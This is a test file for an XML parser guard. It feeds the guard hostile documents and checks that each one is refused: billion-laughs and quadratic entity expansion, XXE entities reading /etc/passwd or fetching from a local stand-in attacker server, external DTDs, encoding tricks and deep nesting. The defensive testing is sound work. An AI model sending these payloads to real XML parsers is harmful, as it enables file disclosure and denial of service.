// XML built to expand, fetch or nest its way past a parser. No route reads XML on this branch yet
// (the SOAP front door and edXML come in other branches), so the guard every XML reader goes
// through, parseXmlDocument in src/xml/safe-dom.ts, is attacked directly; a local HTTP server stands
// in for the attacker's host and must never be called.
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_MAX_XML_DEPTH, parseXmlDocument, XmlRefused, type ParseXmlOptions, type XmlRefusalReason } from '../../../src/xml/safe-dom.js';

const LIMIT = { maxBytes: 64 * 1024 };

function refusal(input: string | Buffer, options: ParseXmlOptions = LIMIT): XmlRefused {
  try {
    parseXmlDocument(input, options);
  } catch (error) {
    if (error instanceof XmlRefused) return error;
    throw error;
  }
  throw new Error('the XML was accepted');
}

describe('hostile XML, at the guard every XML reader goes through', () => {
  let attacker: Server;
  let hits = 0;
  let host = '';
  beforeAll(async () => {
    attacker = createServer((_req, res) => {
      hits += 1;
      res.end('<!ENTITY stolen "secret">');
    });
    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
    host = `http://127.0.0.1:${(attacker.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    // Nothing the documents pointed at was ever fetched.
    expect(hits).toBe(0);
    await new Promise((resolve) => attacker.close(resolve));
  });

  const lol = (n: number) => `<!ENTITY lol${n} "${`&lol${n - 1};`.repeat(10)}">`;
  const cases: [string, () => string | Buffer, XmlRefusalReason][] = [
    ['billion laughs (ten levels of ten-fold entities)', () => `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol0 "lol">${Array.from({ length: 9 }, (_, i) => lol(i + 1)).join('')}]><lolz>&lol9;</lolz>`, 'doctype'],
    ['quadratic blowup (one 50 KiB entity used 1,000 times)', () => `<!DOCTYPE r [<!ENTITY a "${'a'.repeat(50_000)}">]><r>${'&a;'.repeat(1000)}</r>`, 'doctype'],
    ['XXE reading a local file (SYSTEM "file:///etc/passwd")', () => '<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><r>&xxe;</r>', 'doctype'],
    ['XXE calling the attacker’s server (SYSTEM "http://…")', () => `<!DOCTYPE r [<!ENTITY xxe SYSTEM "${host}/xxe">]><r>&xxe;</r>`, 'doctype'],
    ['an external DTD (DOCTYPE … SYSTEM "http://…")', () => `<!DOCTYPE r SYSTEM "${host}/evil.dtd"><r/>`, 'doctype'],
    ['out-of-band XXE through a parameter entity', () => `<!DOCTYPE r [<!ENTITY % dtd SYSTEM "${host}/oob.dtd"> %dtd;]><r/>`, 'doctype'],
    ['a lower-case <!doctype>', () => '<!doctype r><r/>', 'doctype'],
    ['a DOCTYPE hidden inside CDATA', () => '<r><![CDATA[<!DOCTYPE r [<!ENTITY x "y">]>]]></r>', 'doctype'],
    ['an entity declaration without a DOCTYPE', () => '<r><!ENTITY x "y"></r>', 'entity'],
    ['a reference to an undeclared entity', () => '<r>&xxe;</r>', 'malformed'],
    ['a DOCTYPE in UTF-16, past a scan for ASCII "<!DOCTYPE"', () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'utf16le')]), 'invalid_utf8'],
    ['a document declaring ISO-8859-1', () => '<?xml version="1.0" encoding="ISO-8859-1"?><r/>', 'unsupported_encoding'],
    ['a stylesheet processing instruction pointing at the attacker', () => `<?xml version="1.0"?><?xml-stylesheet href="${host}/x.xsl"?><r/>`, 'processing_instruction'],
    ['a NUL character reference (&#0;)', () => '<r>&#0;</r>', 'malformed'],
    [`elements nested ${DEFAULT_MAX_XML_DEPTH + 1} deep, one past the limit`, () => `${'<a>'.repeat(DEFAULT_MAX_XML_DEPTH + 1)}${'</a>'.repeat(DEFAULT_MAX_XML_DEPTH + 1)}`, 'too_deep'],
    ['10,000 open elements and no closing tag', () => '<a>'.repeat(10_000), 'too_deep'],
    ['deep nesting behind namespace prefixes and attributes holding ">"', () => `<r xmlns:p="urn:x">${'<p:a k=">">'.repeat(100)}${'</p:a>'.repeat(100)}</r>`, 'too_deep'],
  ];
  it.each(cases)('refuses %s', (_what, make, reason) => {
    expect(refusal(make()).reason).toBe(reason);
  });

  it('refuses an oversized document by its byte count, before decoding or scanning it', () => {
    // Invalid UTF-8 and a DOCTYPE, but the size is what is judged first.
    const huge = Buffer.concat([Buffer.from('<!DOCTYPE r><r>'), Buffer.alloc(LIMIT.maxBytes, 0xff), Buffer.from('</r>')]);
    expect(refusal(huge).reason).toBe('too_large');
  });

  it('takes a tunable depth: the same document passes at 128 and is refused at 16', () => {
    const doc = `${'<a>'.repeat(20)}${'</a>'.repeat(20)}`;
    expect(() => parseXmlDocument(doc, { ...LIMIT, maxDepth: 128 })).not.toThrow();
    expect(refusal(doc, { ...LIMIT, maxDepth: 16 }).reason).toBe('too_deep');
  });

  it(`accepts ${DEFAULT_MAX_XML_DEPTH} levels, self-closing siblings, and ">" inside attribute values`, () => {
    const deep = `${'<a>'.repeat(DEFAULT_MAX_XML_DEPTH)}${'</a>'.repeat(DEFAULT_MAX_XML_DEPTH)}`;
    expect(parseXmlDocument(deep, LIMIT).documentElement.nodeName).toBe('a');
    const wide = `<r>${'<item k="a>b"/>'.repeat(1000)}</r>`;
    expect(parseXmlDocument(wide, LIMIT).documentElement.childNodes.length).toBe(1000);
  });

  it('parses an XInclude as an inert element: the file it names is not read, the server it names not called', () => {
    const doc = parseXmlDocument(`<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="${host}/inc.xml"/><xi:include href="file:///etc/passwd" parse="text"/></r>`, LIMIT);
    expect(doc.documentElement.textContent).toBe('');
  });
});
